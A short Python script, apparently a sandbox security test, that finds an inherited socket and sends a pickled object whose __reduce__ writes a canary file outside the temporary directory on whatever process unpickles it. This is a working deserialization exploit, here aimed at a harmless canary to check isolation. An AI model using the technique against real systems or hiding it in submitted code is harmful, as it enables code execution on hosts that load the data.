"""Sends a pickle that would write a file where it is loaded."""

import contextlib
import json
import os
import socket
import stat
import struct
import time
import pickle

import numpy as np

from ecgkit import fill


def connection():
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                return socket.socket(fileno=int(name))


def frame(header):
    return struct.pack(">I", len(header)) + header


@fill
def label_beats(symbols):
    class Payload:
        def __reduce__(self):
            return (open, (os.environ["TMPDIR"] + "/../../canary/pickle", "w"))

    data = pickle.dumps(Payload())
    connection().sendall(frame(data))
    time.sleep(1)
    return np.full(99, 7)
